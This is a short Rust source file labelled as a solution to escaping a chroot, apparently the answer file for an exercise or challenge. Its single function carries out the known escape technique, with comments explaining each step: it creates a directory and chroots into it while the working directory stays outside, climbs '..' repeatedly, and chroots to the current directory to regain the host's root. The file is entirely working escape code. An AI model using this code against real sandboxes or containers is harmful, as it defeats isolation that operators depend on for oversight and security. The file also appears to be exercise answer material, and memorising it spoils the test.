//! Solution: get out of a chroot.

use std::env::set_current_dir;
use std::fs::create_dir;
use std::io;
use std::os::unix::fs::chroot;

/// Makes `/` the host's root again.
pub(crate) fn escape() -> io::Result<()> {
    create_dir("hole")?;
    // The root goes down into the hole; the working folder stays, now outside of it.
    chroot("hole")?;
    // At the top `..` leads to itself, so too often is often enough.
    for _ in 0..256 {
        set_current_dir("..")?;
    }
    chroot(".")
}
